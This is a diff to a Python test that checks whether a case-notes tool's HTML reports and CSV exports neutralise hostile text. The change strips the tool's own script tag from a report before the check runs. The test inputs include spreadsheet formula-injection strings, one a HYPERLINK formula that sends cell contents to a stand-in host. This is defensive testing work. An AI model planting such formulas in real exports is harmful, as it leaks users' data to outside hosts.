@@ -17,6 +17,7 @@ from histories import HOSTILE, event
 
 import casesnb as cn
 from casesnb.view.explorer.tabs import state_html
+from casesnb.view.timeline.page import script
 
 TEXTS = (*HOSTILE, '=HYPERLINK("http://x.test?"&A1,"Refund")', "+1 @SUM(A1) -2", "''=1")
 EVENTS = [
@@ -139,7 +140,9 @@ def test_a_stranger_writes_nothing_that_is_obeyed(
     elif where == "report":
         for history in (plain, named):
             path = cn.write_report(history, tmp_path / "r.html", title=TEXTS[1])
-            is_harmless(path.read_text("utf-8"))
+            ours = f'<script type="module" data-item="script">{script()}</script>'
+            before, _, after = path.read_text("utf-8").partition(ours)
+            is_harmless(before + after)
     elif where == "csv":
         named.to_csv_folder(tmp_path / "csv")
         n_cells = 0
